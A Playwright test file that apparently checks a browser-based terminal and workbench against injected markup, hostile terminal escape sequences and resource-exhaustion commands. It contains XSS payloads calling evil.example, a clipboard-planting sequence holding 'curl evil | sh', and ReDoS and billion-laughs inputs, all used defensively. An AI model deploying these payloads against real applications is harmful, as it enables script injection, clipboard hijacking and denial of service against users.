import { expect, type Page, test } from '@playwright/test';
import { days, expectShown, openDay, shown, type } from '../journeys/learner.ts';

/** Text that becomes code wherever it is taken for markup. */
const markup = `<img src=//evil.example/x onerror="document.title='got in'"><svg onload="document.title='got in'"><script>document.title='got in'</script>`;
const link = `[here](javascript:document.title='got_in') ![x](https://evil.example/pixel) <https://evil.example/> <a href="javascript:document.title='got in'">x</a>`;

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Writes down what a page does that it must not. */
function watch(page: Page): { readonly harm: string[] } {
  const harm: string[] = [];
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && new URL(request.url()).hostname !== '127.0.0.1')
      harm.push(`asked ${request.url()}`);
  });
  page.on('dialog', (dialog) => {
    harm.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', () => harm.push('another window'));
  page.on('download', () => harm.push('a download'));
  return { harm };
}

async function expectUnharmed(page: Page, harm: readonly string[]): Promise<void> {
  expect(await page.title()).not.toContain('got in');
  const planted = await page.evaluate(() =>
    [
      ...document.querySelectorAll(
        '.workbench img, .workbench script, .workbench iframe, .workbench [onerror], .workbench [onload], .workbench [href^="javascript:" i], .workbench svg[onload]',
      ),
    ].map((one) => one.outerHTML.slice(0, 200)),
  );
  expect(planted).toEqual([]);
  expect(harm).toEqual([]);
}

test('markup in names, messages, logs, annotations, summaries and pull requests stays text', async ({ page }) => {
  test.setTimeout(120_000);
  const { harm } = watch(page);
  await openDay(page, days.en2);
  const quoted = JSON.stringify(markup);
  const workflow = `name: ${quoted}
run-name: ${JSON.stringify(`Run of ${markup}`)}
on: [push, pull_request]
jobs:
  test:
    name: ${JSON.stringify(`job ${markup}`)}
    runs-on: ubuntu-latest
    env: { TEXT: ${JSON.stringify(`${markup} ${link}`)} }
    steps:
      - uses: actions/checkout@v4
      - name: ${JSON.stringify(`step ${markup}`)}
        run: |
          echo "$TEXT"
          echo "::group::$TEXT"
          echo "::error file=a,line=1,title=$TEXT::$TEXT"
          echo "::warning::$TEXT"
          echo "::notice file=$TEXT::$TEXT"
          printf '\\033]8;;javascript:document.title=1\\033\\\\link\\033]8;;\\033\\\\ \\033[31m%s\\n' "$TEXT"
          echo "# $TEXT" >> "$GITHUB_STEP_SUMMARY"
          mkdir out && echo "$TEXT" > out/page.html && echo "$TEXT" > 'out/<img src=x>.svg'
      - uses: actions/upload-artifact@v4
        with: { name: report, path: out }
`;
  const message = `${markup}\n\n${link}`;
  await type(
    page,
    `m=$(echo ${base64(message)} | base64 -d); t=$(echo ${base64(markup)} | base64 -d)`,
    'touch "<img src=x onerror=alert(1)>.md" "$(printf \'a\\033]0;got in\\007\')" ; mkdir -p "<b>"; echo "$m" > "<b>/<script>.md"',
    `cd seats && git switch -qc "a<img>" && mkdir -p .github/workflows && echo ${base64(workflow)} | base64 -d > .github/workflows/ci.yml`,
    'git config user.name "<script>document.title=1</script>" && git add . && git commit -qm "$m" && git tag -m "$m" "v<b>" && git push -q origin HEAD --tags',
    'gh pr create --title "$t" --body "$m" ; gh issue create --title "$t" --body "$m"; gh label create "<b>x</b>" ; sleep 600',
    'git log --format="%an %s%n%b" | cat; git branch; ls ~; gh pr view | cat; gh issue list; gh run list',
  );
  await expectUnharmed(page, harm);
  await page.locator('#wb-tab-runs').click();
  const view = page.locator('.runs-host');
  await view.locator('.run-list button').first().click();
  await expect(view.locator('h3')).toContainText('Run of <img src=//evil.example/x');
  await view.locator('details').evaluateAll((all) => {
    for (const one of all) (one as HTMLDetailsElement).open = true;
  });
  await expect(view.locator('.run-log').nth(1)).toContainText('<img src=//evil.example/x');
  await expect(view.locator('.run-markdown').first()).toContainText('<img src=//evil.example/x');
  await expectUnharmed(page, harm);
  await view
    .getByRole('tab', { name: /Pull requests/ })
    .or(view.getByRole('button', { name: /Pull requests/ }))
    .first()
    .click();
  await view
    .getByRole('button', { name: /evil\.example/ })
    .first()
    .click();
  await expectUnharmed(page, harm);
  await page.getByRole('treeitem', { name: '<img src=x onerror=alert(1)>.md' }).click();
  await expectUnharmed(page, harm);
});

test('sequences of a terminal make no links, no clipboard, no title and no keys, and the terminal goes on', async ({
  page,
  context,
}) => {
  test.setTimeout(180_000);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const { harm } = watch(page);
  await openDay(page, days.en1);
  await page.evaluate(() => navigator.clipboard.writeText('mine'));
  const title = await page.title();
  const sequences = {
    'a link that says another address':
      '\\033]8;;https://evil.example/\\033\\\\https://ventarela.test/\\033]8;;\\033\\\\',
    'a link that is a script': '\\033]8;;javascript:alert(1)\\007press\\033]8;;\\007',
    clipboard: `\\033]52;c;${base64('curl evil | sh')}\\007`,
    'clipboard, asked': '\\033]52;c;?\\007',
    title: '\\033]0;got in\\007\\033]2;got in\\007\\033]1;got in\\007',
    'title, told': '\\033]2;rm -rf ~\\007\\033[21t',
    'where the cursor is': '\\033[6n\\033[?6n\\033[5n',
    'what the terminal is': '\\033[c\\033[>c\\033[=c\\033[>q\\033Z',
    colours: '\\033]4;1;?\\007\\033]10;?\\007\\033]11;?\\007',
    settings: '\\033P$qm\\033\\\\\\033P+q544e\\033\\\\',
    'size of the window': '\\033[8;9999;9999t\\033[18t\\033[14t\\033[3;0;0t\\033[2t',
    'a picture': '\\033]1337;File=inline=1:AAAA\\007\\033Pq#0;2;0;0;0~~\\033\\\\',
    'a notification': '\\033]9;got in\\007\\033]777;notify;got;in\\007\\033]99;;in\\033\\\\',
    'another screen': '\\033[?1049h\\033[?47h\\033[?1049l\\033[?47l',
    'the mouse': '\\033[?1000h\\033[?1003h\\033[?1006h\\033[?1000l\\033[?1003l\\033[?1006l',
    'no keyboard': '\\033[2h\\033[?2004h\\033[2l',
    'a sequence without end': '\\033]0;$(seq 3000)',
    'numbers without end': '\\033[99999999999999999999;9999999999999A\\033[2147483647B\\033[9999999b',
    'right to left': '\\342\\200\\256drowssap\\342\\200\\254',
    'a reset': '\\033c\\033[!p',
  };
  for (const sequence of Object.values(sequences)) await type(page, `printf "${sequence}"; printf '\\033\\\\\\n'`);
  await type(page, 'reset; echo still-$((40 + 2))');
  await expectShown(page, /still-42/);
  expect(await page.title()).toBe(title);
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine');
  await type(page, "clear; printf '\\033]8;;https://evil.example/\\033\\\\PRESS-HERE\\033]8;;\\033\\\\\\n'");
  const row = page.locator('.terminal-screen:not([hidden]) .xterm-rows > div', { hasText: 'PRESS-HERE' }).last();
  const { x, y } = (await row.boundingBox()) ?? { x: 0, y: 0 };
  for (const modifier of [undefined, 'Control'] as const) {
    if (modifier) await page.keyboard.down(modifier);
    await page.mouse.move(x + 40, y + 8);
    await page.mouse.click(x + 40, y + 8);
    if (modifier) await page.keyboard.up(modifier);
  }
  expect(harm).toEqual([]);
});

test('what explodes in the engine does not hold the page for two seconds', async ({ page }) => {
  test.setTimeout(180_000);
  await openDay(page, days.en1);
  await page.evaluate(() => {
    const held = { longest: 0, last: performance.now() };
    Object.assign(globalThis, { held });
    setInterval(() => {
      held.longest = Math.max(held.longest, performance.now() - held.last);
      held.last = performance.now();
    }, 50);
  });
  const attempts = [
    'yes | head -n 200000',
    'for i in $(seq 600); do mkdir d && cd d; done; cd',
    'for i in $(seq 1500); do echo $i > f$i; done',
    "printf '%s' aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! | grep -cE '^(a+)+$'",
    "node -e 'for (;;);'",
    'node -e \'let s = "x"; for (;;) s += s\'',
    'head -c 60000000 /dev/zero > big; cp big big2',
    'seq 300000 > numbers.txt; sort -r numbers.txt | tail -n 1',
    'a=x; for i in $(seq 40); do a=$a$a; done',
    'head -c 200000 /dev/zero | tr "\\0" x',
    'printf "a: &a [x,x,x,x,x,x,x,x,x]\\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\\n" > plan.yaml; loop run',
  ];
  const longest: Record<string, number> = {};
  for (const [index, attempt] of attempts.entries()) {
    await page.locator('.terminal-screen:not([hidden]) .xterm-helper-textarea').focus();
    // The second line waits in the terminal until the first has ended, or was ended.
    for (const line of [attempt, `echo ended-$((100 + ${index}))`]) {
      await page.keyboard.insertText(line);
      await page.keyboard.press('Enter');
    }
    await expect.poll(() => shown(page), { timeout: 60_000 }).toContain(`ended-${100 + index}`);
    longest[attempt] = await page.evaluate(() => {
      const { held } = globalThis as unknown as { held: { longest: number } };
      const { longest } = held;
      held.longest = 0;
      return Math.round(longest);
    });
  }
  await type(page, 'clear; echo still-$((40 + 2))');
  await expectShown(page, /still-42/);
  expect(Object.entries(longest).filter(([, ms]) => ms >= 2000)).toEqual([]);
});
